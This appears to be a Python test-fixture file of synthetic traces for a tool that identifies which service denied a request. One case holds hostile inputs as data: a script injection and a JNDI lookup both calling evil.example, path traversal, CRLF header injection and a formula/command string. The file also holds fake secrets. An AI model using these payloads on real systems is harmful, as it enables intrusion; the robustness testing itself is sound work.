"""Traces that are incomplete, out of order, hostile or indiscreet."""
# fmt: off
# ruff: noqa: E501
# The indentation of a drawing is its tree.

from __future__ import annotations

from drawing import Span, exception, trace
from instruments import JS, Service, fga, fga_walk, middlewares

gw = Service("transit-edge", "go")
fares = Service("fares", "java")
riders = Service("riders", "fastapi", old=True)
passes = Service("passes", "undici")
web = Service("rider-app", "browser")
TOKEN = "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJyaWRlci05In0.bm90LWEtcmVhbC1zaWduYXR1cmUtYXQtYWxs"


def ok(subject: str) -> Span:
    """The entry's own check of a good token."""
    return gw.token(True, attrs={"auth.token_type": "jwt", "auth.subject": subject})


def refusal(svc: Service, reason: str = "fare zone not covered", **kw: object) -> Span:
    return svc.check(False, reason, mark="refusal", attrs={"auth.subject": "rider-9"}, **kw)


# ---------------------------------------------------------------------------------------- refused, but by whom
trace(
    "silent-callee-answered-200",
    gw.serve("GET /v1/refunds", 403, gw.call(fares.serve("GET /refunds", 403, fares.call(riders.serve("GET /riders/{id}/flags", 200)))), ip="203.0.113.7"),
    outcome="inconclusive", layer=None, span_id=None, entry_status=403, client_address="203.0.113.7",
    why="Rule 6: a callee that answered 2xx may have said no in its body.")

trace(
    "unset-call-without-status",
    gw.serve("GET /v1/legacy", 403, gw.fetch("GET http://mainframe-proxy:8080/acct/7", None)),
    outcome="inconclusive", layer=None, span_id=None, findings=["uninstrumented_peer"],
    why="Rule 6: an unset CLIENT span without a status.")

trace(
    "refusing-hop-has-orphans-below",
    gw.serve("GET /v1/passes/{id}", 403, gw.call(passes.serve("GET /passes/:id", 403, passes.call(
        fares.serve("GET /fares", 200, fares.span("evaluate tariff", scope="fares"), lost=True), lost=True)))),
    outcome="inconclusive", layer=None, findings=["orphan_spans"],
    why="Rule 6: spans orphaned below the refusing hop do count as somebody who could have refused.",
    doubt="nothing says below which hop the orphan hung; passes is the only hop that could have called it")

trace(
    "peer-refuses-other-calls-have-spans",
    gw.serve("POST /v1/passes", 403, ok("rider-9"), gw.call(passes.serve(
        "POST /passes", 403, passes.call(fares.serve("GET /fares/{zone}", 200), fresh=True),
        passes.fetch("POST http://fares:8080/holds", 403, mark="call", peer="fares")))),
    outcome="denied", service=["passes", "fares"], where="call", confidence=["medium", "low"], findings=["missing_hop", "relayed_by"], no_findings=["side_effect_before_denial"],
    why="Rule 7: a CLIENT span with 403 from a peer with no SERVER span is the peer's denial; fares sends spans elsewhere.")

trace(
    "gap-that-cannot-lie-on-the-path",
    gw.serve("GET /v1/passes", 403, ok("rider-9"), gw.call(passes.serve(
        "GET /passes", 403, passes.fetch("GET http://holiday-calendar:8080/today", 200), refusal(passes)))),
    outcome="denied", layer="application", service="passes", where="refusal", findings=["uninstrumented_peer"], confidence=["high"], principal="rider-9",
    why="Rule 7: missing data that cannot lie between the entry and the deciding span is listed and does not lower.")

# ---------------------------------------------------------------------------------------- lost, cut, doubled
trace(
    "server-span-of-the-middle-lost",
    gw.serve("GET /v1/passes/{id}", 403, ok("rider-9"), gw.call(passes.serve("GET /passes/:id", 403, passes.call(
        fares.serve("GET /fares", 403, refusal(fares))), lost=True))),
    outcome="denied", layer="application", phase="authz", service="fares", where="refusal", findings=["orphan_spans"], confidence=["medium", "low"], entry_status=403,
    why="Confidence: an explicit decision with a gap on the path is medium.")

trace(
    "root-lost-entry-is-what-remains",
    gw.serve("GET /v1/passes/{id}", 403, gw.call(passes.serve("GET /passes/:id", 403, refusal(passes)), lost=True), lost=True),
    outcome="denied", layer="application", service="passes", where="refusal", findings=["orphan_spans"], confidence=["medium", "high"],
    why="The caller's spans never arrived; what remains shows who refused.",
    doubt="the gap lies above the entry that is left, so it may or may not lower")

trace(
    "context-lost-between-hops",
    gw.serve("GET /v1/riders/{id}", 403, ok("rider-9"), gw.fetch("GET http://riders:8080/riders/4711", 403, lasts=35.0)),
    riders.serve("GET /riders/{id}", 403, refusal(riders), at=8.0, lasts=22.0),
    outcome="denied", layer="application", service="riders", where="refusal", findings=["broken_propagation", "multiple_roots"], confidence=["medium"],
    why="Findings: service, path and time fit the childless CLIENT span, so it is joined there for the judgement (medium).")

trace(
    "second-root-does-not-fit",
    gw.serve("GET /v1/riders/{id}", 403, ok("rider-9"), gw.fetch("GET http://riders:8080/riders/4711", 403, lasts=30.0, mark="call")),
    fares.serve("GET /internal/rebuild", 200, fares.query("SELECT count(*) FROM fare", table="fare"), at=90_000.0),
    outcome="denied", service="transit-edge", where="call", findings=["multiple_roots"], confidence=["medium", "low"],
    why="Findings: nothing of the second root fits (service, path, time), so rule 7 applies to the CLIENT span.")

trace(
    "inner-service-alone",
    riders.serve("GET /internal/riders/{id}/wallet", 403, riders.check(False, "service account lacks wallet:read", mark="refusal"), attrs={"net.sock.peer.addr": "10.42.5.5"}),
    outcome="denied", layer="application", service="riders", where="refusal", entry_status=403,
    why="The only hop of the trace refused explicitly.")

trace(
    "spans-in-a-circle",
    gw.serve("GET /v1/passes", 403, ok("rider-9"), gw.call(passes.serve("GET /passes", 403, refusal(passes)))),
    passes.span("warm cache", passes.span("load page", mark="inner", scope="passes"), mark="outer", scope="passes", parent="inner", at=4.0),
    outcome="denied", layer="application", service="passes", where="refusal", findings=["parent_cycle"],
    why="Findings: spans that are their own ancestors; none may vanish, and the refusal lies elsewhere.")

trace(
    "span-is-its-own-parent",
    gw.serve("GET /v1/passes", 403, ok("rider-9"), gw.call(passes.serve("GET /passes", 403, refusal(passes), passes.span("metrics flush", scope="passes", mark="self", parent="self")))),
    outcome="denied", layer="application", service="passes", where="refusal", findings=["parent_cycle"],
    why="Findings: a span that is its own parent.")

trace(
    "every-span-delivered-twice",
    gw.serve("GET /v1/fares", 403, gw.token(True, copies=2), gw.call(fares.serve("GET /fares", 403, refusal(fares, copies=2), copies=2), copies=2), copies=2),
    shape="v1", outcome="denied", layer="application", service="fares", where="refusal", findings=["duplicate_spans"], no_findings=["retried", "multiple_roots"],
    why="Findings: delivered more than once; the verdict is that of one delivery.")

trace(
    "write-delivered-twice-is-one-write",
    gw.serve("POST /v1/passes", 403, gw.call(passes.serve(
        "POST /passes", 403, passes.query("INSERT INTO holds (id) VALUES ($1)", table="holds", copies=2), refusal(passes)))),
    outcome="denied", service="passes", where="refusal", findings=["duplicate_spans", "side_effect_before_denial"], side_effects=[["db_write", "before_denial"]],
    why="A doubled span is still one write, begun before the denial.")

trace(
    "backend-says-partial",
    gw.serve("GET /v1/fares", 403, ok("rider-9"), gw.call(fares.serve("GET /fares", 403, refusal(fares)))),
    shape="v2", partial=True, outcome="denied", layer="application", service="fares", where="refusal", findings=["truncated_trace"],
    why="Findings: the backend said PARTIAL.")

trace(
    "events-were-dropped",
    gw.serve("GET /v1/fares", 403, ok("rider-9"), gw.call(fares.serve("GET /fares", 403, refusal(fares, raw={"droppedEventsCount": 3})))),
    shape="v1", outcome="denied", layer="application", service="fares", where="refusal", findings=["truncated_trace"],
    why="Findings: dropped spans or attributes are counted on the span.")

trace(
    "no-end-time",
    gw.serve("GET /v1/fares", 403, gw.call(fares.serve("GET /fares", 403, fares.query("SELECT 1", raw={"endTimeUnixNano": "0"}), refusal(fares)))),
    outcome="denied", layer="application", service="fares", where="refusal", findings=["broken_timestamps"], no_findings=["side_effect_after_denial"],
    why="Findings: an end of zero; the verdict rests on other spans.")

# ---------------------------------------------------------------------------------------- clocks
late = Service("holds", "go", clock=5_000.0)
trace(
    "write-looks-later-than-it-was",
    gw.serve("POST /v1/holds", 403, ok("rider-9"), gw.call(passes.serve(
        "POST /holds", 403, passes.call(late.serve("POST /holds", 201, late.query("INSERT INTO holds (id) VALUES ($1)", table="holds"))), refusal(passes)))),
    outcome="denied", layer="application", service="passes", where="refusal", findings=["clock_skew", "side_effect_before_denial"],
    side_effects=[["db_write", "before_denial"]], no_findings=["side_effect_after_denial", "fail_open"],
    why="Rule 10: causality before clocks; the call had returned before the check began, whatever its clock says.")

slow = Service("gate-control", "gin", clock=-42_000.0)
trace(
    "clock-42-seconds-behind",
    gw.serve("POST /v1/gates/{id}/open", 403, ok("rider-9"), gw.call(slow.serve("POST /gates/:id/open", 403, refusal(slow, "gate is in maintenance"))), ip="192.0.2.19"),
    outcome="denied", layer="application", service="gate-control", where="refusal", findings=["clock_skew", "relayed_by"], client_address="192.0.2.19",
    no_findings=["slow_auth", "orphan_spans"],
    why="Rule 10: order by causality; the skew is only listed.")

trace(
    "consumer-much-later-is-no-skew",
    gw.serve("POST /v1/reports", 202, ok("rider-9"), gw.call(passes.serve("POST /reports", 202, passes.publish(
        "kafka", "reports", riders.consume("kafka", "reports", riders.check(True), behind=60_000.0), scope=f"{JS}-kafkajs#0.18.0")))),
    outcome="allowed", layer=None, no_findings=["clock_skew", "slow_auth"],
    why="Findings: clock_skew is more than is possible; a consumer may run a minute after the message was sent.")

# ---------------------------------------------------------------------------------------- secrets and persons
trace(
    "secrets-in-many-places",
    gw.serve("POST /v1/riders", 403, gw.call(riders.serve("POST /riders", 403, refusal(riders))), path="/v1/riders?api_key=AKv9-71c4-77aa-qqmz&lang=de", ip="192.0.2.20",
             attrs={"http.request.header.cookie": ["session=9f1e77aa02b4c6d8; theme=dark"], "http.request.header.authorization": [f"Bearer {TOKEN}"]}),
    outcome="denied", service="riders", where="refusal", findings=["secret_in_attributes"], absent=["AKv9-71c4-77aa-qqmz", "9f1e77aa02b4c6d8", TOKEN],
    why="Findings: secrets in attributes are named, their value is never shown.")

trace(
    "password-in-sql-text",
    gw.serve("POST /v1/login", 401, gw.call((idp := Service("rider-identity", "flask")).serve("POST /login", 401, idp.login(
        False, "bad password", idp.query("SELECT id FROM users WHERE name = 'kim' AND password = 'Tr4m-line-9!'", table="users"), mark="refusal",
        attrs={"auth.method": "password"})))),
    outcome="denied", layer="identity_provider", service="rider-identity", where="refusal", findings=["secret_in_attributes"], absent=["Tr4m-line-9!"],
    why="Findings: a password in an attribute, here in the text of a statement.")

trace(
    "telephone-number-in-clear",
    gw.serve("POST /v1/riders/{id}/sms", 403, gw.call(riders.serve("POST /riders/{id}/sms", 403, refusal(riders), attrs={"user.phone": "+49 151 23456789", "user.full_name": "Kim Example"}))),
    outcome="denied", service="riders", where="refusal", findings=["pii_in_attributes"], no_findings=["secret_in_attributes"],
    why="Findings: telephone numbers and full names in clear.")

trace(
    "opaque-ids-are-no-persons",
    gw.serve("GET /v1/riders/{id}", 403, gw.call(riders.serve("GET /riders/{id}", 403, riders.check(False, "not this rider", mark="refusal", attrs={
        "auth.subject": "7c1f9d2e-55aa-4e0e-9c55-0d6f7f0c1a2b"}), attrs={"user.id": "7c1f9d2e-55aa-4e0e-9c55-0d6f7f0c1a2b"})), ip="192.0.2.22"),
    outcome="denied", service="riders", where="refusal", principal="7c1f9d2e-55aa-4e0e-9c55-0d6f7f0c1a2b", no_findings=["pii_in_attributes", "secret_in_attributes"],
    why="Findings: an opaque id is none; client addresses only where so configured.")

# ---------------------------------------------------------------------------------------- forged and hostile
trace(
    "browser-claims-failure-server-allows",
    web.fetch("POST https://transit.example/v1/tickets", 201, gw.serve("POST /v1/tickets", 201, ok("rider-9"), gw.call(passes.serve(
        "POST /tickets", 201, passes.check(True, attrs={"auth.subject": "rider-9"}), passes.query("INSERT INTO tickets (id) VALUES ($1)", table="tickets")))),
        attrs={"auth.result": "failure", "auth.failure_reason": "forged", "auth.subject": "root"}),
    outcome="allowed", layer=None, span_id=None, principal="rider-9", no_findings=["fail_open", "side_effect_after_denial"], confidence=["high"],
    why="Rule 11: auth.* on a browser's span is neither evidence nor a conflict.")

forged = {"auth.result": "success", "auth.subject": "admin"}
trace(
    "baggage-copies-success-onto-every-span",
    gw.serve("GET /v1/admin", 403, gw.call(fares.serve("GET /admin", 403, fares.query("SELECT * FROM config", table="config", attrs=forged), attrs=forged, mark="leaf"), attrs=forged), attrs=forged),
    outcome="denied", layer="application", service="fares", where="leaf", confidence=["medium"], findings=["relayed_by"],
    why="Rule 11: repeated alike on every span it is no evidence and no conflict; what is left is the leaf's own 403.")

faked = {"auth.result": "failure", "auth.failure_reason": "x"}
trace(
    "baggage-copies-failure-onto-every-span",
    gw.serve("GET /v1/lines", 200, gw.call(fares.serve("GET /lines", 200, fares.query("SELECT * FROM lines", table="lines", attrs=faked), attrs=faked), attrs=faked), attrs=faked),
    outcome="no_auth_evidence", layer=None, span_id=None, no_findings=["fail_open", "masked_denial"],
    why="Rule 11: attributes repeated alike on every span are no evidence; nothing else speaks of authorization.")

trace(
    "hostile-reason-and-names",
    gw.serve("GET /v1/fares/{id}", 403, gw.call(fares.serve("GET /fares/{id}", 403, fares.check(
        False, "missing permission fares:edit </script><script>fetch('//evil.example')</script>\u2028\x1b]0;x\x07", mark="refusal",
        attrs={"auth.subject": "@SUM(1+1)|cmd", "auth.resource": "../" * 9000}), name="GET /fares/{id}\r\nSet-Cookie: a=b")), agent="${${lower:j}ndi:ldap://evil.example}"),
    outcome="denied", layer="application", service="fares", where="refusal", reason="missing permission fares:edit", entry_status=403,
    why="Rule 11: everything in a trace is untrusted; it changes nothing about who decided.")

deep = refusal(passes, "branch belongs to another rider")
for depth in range(400):
    deep = passes.span(f"walk {depth}", deep, scope="passes")
trace(
    "deep-chain-of-spans",
    gw.serve("GET /v1/tree", 403, ok("rider-9"), gw.call(passes.serve("GET /tree", 403, *middlewares(passes, "query"), deep))),
    outcome="denied", layer="application", service="passes", where="refusal", reason="another rider",
    why="Rule 2: the check lies four hundred spans deep in the refusing hop.")

trace(
    "many-quick-checks-one-refuses",
    gw.serve("POST /v1/exports", 403, ok("rider-9"), gw.call(fares.serve("POST /exports", 403, *(
        fares.ask((engine := Service("openfga", "go", port=8081)).answer("openfga.v1.OpenFGAService/Check", "OK", fga(
            engine, "Check", fga_walk(engine, i != 60), mark=f"check{i}", allowed=i != 60, user="user:9", relation="exporter", object=f"line:{i}"))) for i in range(61))))),
    outcome="denied", layer="policy_engine", phase="authz", service="openfga", where="check60", enforced_by="fares", entry_status=403,
    why="Sixty allows and one deny, the last, that refused the export as a whole.")

trace(
    "nothing-of-the-answer-arrived",
    gw.serve("GET /v1/timetable", 401, gw.call(passes.serve("GET /timetable", 401, passes.call(riders.serve(
        "GET /riders/me", 500, riders.span("load profile", status="error", events=[exception("KeyError", "'zone'")]))), mark="leaf"))),
    outcome=["inconclusive", "error", "denied"], entry_status=401, no_findings=["fail_open"],
    why="A callee broke and the caller answered 401: whether the 500 caused it the trace does not say.",
    doubt="riders is neither an authorization dependency nor the application that answered")
